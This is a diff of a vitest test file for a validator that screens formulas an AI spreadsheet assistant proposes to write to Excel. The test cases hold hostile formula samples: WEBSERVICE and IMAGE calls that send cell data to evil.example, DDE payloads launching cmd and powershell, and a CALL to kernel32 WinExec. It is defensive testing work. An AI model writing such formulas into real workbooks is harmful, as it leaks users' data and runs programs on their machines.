@@ -1,47 +1,32 @@
 import { describe, expect, it } from "vitest";
-import { findFormulaHazards } from "@/lib/ai/tools/formula-hazards";
 import { parseProposalRange } from "@/lib/ai/tools/parse-proposal-range";
 import { PROPOSAL_LIMITS, validateProposal } from "@/lib/ai/tools/validate-proposal";
+import { ATTACKS, NEAR_MISSES, corpusTitle, type CorpusEntry } from "@/tests/fixtures/formulas/corpus";
 
 const explanation = "test";
 
-describe("findFormulaHazards", () => {
-  it.each([
-    ['=WEBSERVICE("https://evil.example/?d="&A1)', "web_function"],
-    ["=webservice(A1)", "web_function"],
-    ['=_xlfn.WEBSERVICE("x")', "web_function"],
-    ['=HYPERLINK("https://evil.example", "click")', "web_function"],
-    ['=FILTERXML(WEBSERVICE("https://x.example/feed"), "//item")', "web_function"],
-    ['=FILTERXML("https://x.example/feed", "//a")', "web_function"],
-    ['=RTD("server.progid",,"topic")', "native_call"],
-    ['=CALL("kernel32","WinExec","JCJ","calc",1)', "native_call"],
-    ['=REGISTER.ID("user32","MessageBoxA")', "native_call"],
-    ["=cmd|'/c calc'!A0", "dde"],
-    ["+cmd|' /C powershell'!A0", "dde"],
-    ["@SUM(cmd|'/c calc'!A0)", "dde"],
-    ["=[Book2.xlsx]Sheet1!A1", "external_link"],
-    ["='C:\\Users\\me\\[secret.xlsx]Sheet1'!A1", "external_link"],
-    ["=SUM('\\\\server\\share\\[x.xlsm]Data'!B:B)", "external_link"],
-    ["=[1]Sheet1!A1", "external_link"],
-    ['=INDIRECT("[Other.xlsx]Sheet1!A1")', "external_link"],
-    ['=IMAGE("https://evil.example/p.png?" & A1)', "web_function"],
-    ['="see https://evil.example"', "url"],
-  ])("refuses %s (%s)", (formula, code) => {
-    expect(findFormulaHazards(formula).map((h) => h.code)).toContain(code);
+// The shared formula corpus through the server's check, as a formula, as a value Excel would
+// read as a formula, and as a conditional-format rule: the refusal names the rule.
+describe("formula safety in proposals", () => {
+  const rows = (entries: CorpusEntry[]) => entries.map((entry) => [corpusTitle(entry), entry] as const);
+
+  function attempts(formula: string) {
+    const out = [validateProposal("write_range", { address: "Sheet1!C1", values: [[formula]], explanation })];
+    // The schema caps a formula at Excel's limit and a rule at 1,000 characters.
+    if (formula.length <= 8_192) out.push(validateProposal("write_range", { address: "Sheet1!C1", formulas: [[formula]], explanation }));
+    if (formula.length <= 1_000) out.push(validateProposal("add_conditional_format", { address: "A1:B4", rule: { type: "custom_formula", formula }, explanation }));
+    return out;
+  }
+
+  it.each(rows(ATTACKS))("refuses %s", (_title, entry) => {
+    for (const result of attempts(entry.formula)) {
+      expect(result.ok).toBe(false);
+      if (!result.ok) expect(result.errors.join("; ")).toContain(`rule "${entry.verdict}"`);
+    }
   });
 
-  it.each([
-    "=SUM(B2:B13)",
-    "=AVERAGE(Sheet1!C2:C41)",
-    "=XLOOKUP(A2,'Price List'!A:A,'Price List'!B:B)",
-    "=SUMIFS(Sales[Amount],Sales[Region],\"North\")",
-    "=Table1[[#Headers],[Total]]",
-    '=IF(A1>0,"Hyperlink text is fine in a string","")',
-    '=FILTERXML("<a><b>1</b></a>","//b")',
-    "=LET(x,A1,x*2)",
-    "-5",
-  ])("allows %s", (formula) => {
-    expect(findFormulaHazards(formula)).toEqual([]);
+  it.each(rows(NEAR_MISSES))("allows %s", (_title, entry) => {
+    for (const result of attempts(entry.formula)) expect(result).toMatchObject({ ok: true });
   });
 });
 
@@ -76,15 +61,31 @@ describe("validateProposal", () => {
     expect(result.ok === false && result.errors[0]).toBe("A1:A10001 is 10,001 cells; one proposal may write at most 10,000");
   });
 
-  it("treats values starting with = + - @ as formulas and refuses dangerous ones", () => {
+  it("treats values starting with = + - @ as formulas and refuses dangerous ones, each reason with its rule", () => {
     const result = validateProposal("write_range", { address: "A1:C1", values: [["=WEBSERVICE(\"http://x.example\")", "+cmd|'/c calc'!A0", "-12.5"]], explanation });
     expect(result.ok).toBe(false);
     if (!result.ok) {
-      expect(result.errors).toHaveLength(3); // WEBSERVICE, its URL, and the DDE link; "-12.5" is fine
-      expect(result.errors.some((e) => e.startsWith("A1 calls WEBSERVICE"))).toBe(true);
-      expect(result.errors.some((e) => e.startsWith("B1 contains a DDE link"))).toBe(true);
+      expect(result.errors).toEqual([
+        'A1 calls WEBSERVICE (rule "network": formulas may not reach the network, where a request can carry the sheet\'s data out), and contains the web address "http://x.example" in a text (rule "external_reference": formulas may not reach other workbooks, files or web addresses the user never chose to link) in =WEBSERVICE("http://x.example")',
+        'B1 contains a DDE link (app|topic!item), which can start programs (rule "code_execution": formulas may not start programs, load libraries or run macros), and refers to a file or web location (\'/c calc\'!) (rule "external_reference": formulas may not reach other workbooks, files or web addresses the user never chose to link) in +cmd|\'/c calc\'!A0',
+      ]);
     }
     expect(validateProposal("write_range", { address: "A1:B1", values: [["-12.5", "@home"]], explanation }).ok).toBe(true);
+  });
+
+  it("says how to write text that Excel would misread as a formula", () => {
+    const result = validateProposal("write_range", { address: "A1", values: [["- don't forget"]], explanation });
+    expect(result.ok === false && result.errors[0]).toBe(
+      'A1 cannot be read: a quoted sheet name is never closed (character 6) (rule "unreadable": a formula that cannot be read cannot be shown to be safe) in - don\'t forget (to write it as text, start it with an apostrophe)',
+    );
+    expect(validateProposal("write_range", { address: "A1", values: [["'- don't forget"]], explanation }).ok).toBe(true);
+  });
+
+  it("checks every text of a formulas matrix, and charts' titles and tables' names that read as formulas", () => {
+    expect(validateProposal("write_range", { address: "A1", formulas: [["WEBSERVICE(A1)"]], explanation }).ok).toBe(false);
+    expect(validateProposal("add_chart", { sourceAddress: "A1:C13", chartType: "Line", title: "=IMAGE(A1)", explanation }).ok).toBe(false);
+    const external = validateProposal("add_chart", { sourceAddress: "A1:C13", chartType: "Line", title: "=[Book2]Sheet1!A1", explanation });
+    expect(external.ok === false && external.errors[0]).toContain('title refers to another workbook ([Book2]Sheet1!) (rule "external_reference"');
   });
 
   it("checks conditional-format formulas, sort and filter columns, and chart size", () => {
